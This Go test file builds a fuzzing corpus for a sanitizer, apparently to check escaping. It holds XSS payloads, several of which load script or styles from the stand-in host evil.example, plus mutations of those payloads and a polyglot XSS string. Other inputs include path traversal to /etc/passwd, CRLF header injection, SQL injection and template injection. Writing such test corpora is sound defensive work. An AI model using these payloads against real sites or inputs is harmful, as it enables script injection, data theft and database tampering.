package guardtest

import (
	"fmt"
	"html"
	"net/url"
	"strings"
)

// breakers are what may end the place where a text stands.
var breakers = []string{"", `">`, `'>`, "</title>", "</style>", "</textarea></select>", "--!>", "]]>", "</bdi></strong>", `"/`, "\u2028", "</noscript></template>"}

// payloads call owned, or fetch something, if anything of them is taken for
// more than text.
var payloads = []string{
	"<script>owned()</script>", "<img src=x onerror=owned()>", "<svg onload=owned()>", "<svg><script>owned()</script></svg>", "<details open ontoggle=owned()>x",
	`<iframe srcdoc="<script>parent.owned()</script>"></iframe>`, `<a href="javascript:owned()">x</a>`, ` onfocus=owned() autofocus tabindex=1 x="`,
	`<math><a xlink:href="javascript:owned()">x</a></math>`, "<style>@import '//evil.example/x.css';</style>", "<base href=//evil.example/>",
	`<meta http-equiv=refresh content="0;url=javascript:owned()">`, "<object data=javascript:owned()></object>", "<form action=javascript:owned()><button autofocus>x</button></form>",
	"<input autofocus onfocus=owned()>", "<video><source onerror=owned()></video>", "<link rel=stylesheet href=//evil.example/x.css>", "<embed src=javascript:owned()>",
	`<script src=//evil.example/x.js></script>`, "<template><img src=x onerror=owned()></template>",
}

// oddities are texts that programs stumble over.
var oddities = []string{
	"null", "undefined", "NaN", "true", "-1", "0x7f", "1e999", "{{.}}", "{{7*7}}", "${owned()}", "<%= owned() %>", "{app}", "{x}", "%s%n%x", "%00", "\\u003cscript\\u003e",
	"javascript:owned()", "JaVaScRiPt:owned()", "data:text/html,<script>owned()</script>", "vbscript:owned()", "java\tscript:owned()", "//evil.example", "\\\\evil.example", "http://evil.example/<x>",
	"../../etc/passwd", "a\r\nSet-Cookie: a=b", "a\r\n\r\n<script>owned()</script>", "'; DROP TABLE x; --", "\" OR 1=1 --", "+ADw-script+AD4-owned()+ADw-/script+AD4-",
	"\u202eowned\u202c", "\u200b", "\ufeff", "\u0000<script>owned()</script>", "\x7f", "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "👨‍👩‍👧‍👦", "🇺🇳", "﷽", "Ω≈ç√∫", "ﬁﬂ", "\U000e0041",
	"<", ">", "&", `"`, "'", "`", "&lt;script&gt;", "&#60;script&#62;owned()&#60;/script&#62;", "<!--", "<![CDATA[", "<?xml?>", "</", "<x", "=", "*/owned()/*", "expression(owned())", "url(javascript:owned())",
	strings.Repeat("<b>", 300), strings.Repeat("a", 3000), strings.Repeat("&", 500), strings.Repeat("\u202e", 100), strings.Repeat("\n", 50),
}

// corpus is every payload behind every breaker, some in disguise, and the
// oddities.
func corpus() []string {
	disguises := []func(string) string{
		func(text string) string {
			return strings.NewReplacer("script", "ScRiPt", "onerror", "oNeRrOr").Replace(text)
		},
		html.EscapeString, url.QueryEscape,
		func(text string) string { return strings.ReplaceAll(text, "<", "<\x00") },
		func(text string) string { return strings.ReplaceAll(text, "<", "＜") },
		func(text string) string { return strings.ReplaceAll(text, " ", "/") },
		func(text string) string { return strings.ReplaceAll(text, "=", "\n=\t") },
		func(text string) string { return "<" + text },
		func(text string) string { return strings.ReplaceAll(text, "javascript", "java\nscript") },
	}
	list := append([]string(nil), oddities...)
	for i, breaker := range breakers {
		for j, payload := range payloads {
			list = append(list, breaker+payload)
			if (i+j)%2 == 0 {
				list = append(list, disguises[(i*len(payloads)+j)/2%len(disguises)](breaker+payload))
			}
		}
	}
	polyglot := "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=owned() )//%%0D%%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=owned()//>\\x3e%s"
	for i := range 100 {
		list = append(list, fmt.Sprintf(polyglot, payloads[i%len(payloads)]+breakers[i%len(breakers)]+payloads[(i*7+3)%len(payloads)]))
	}
	return list
}
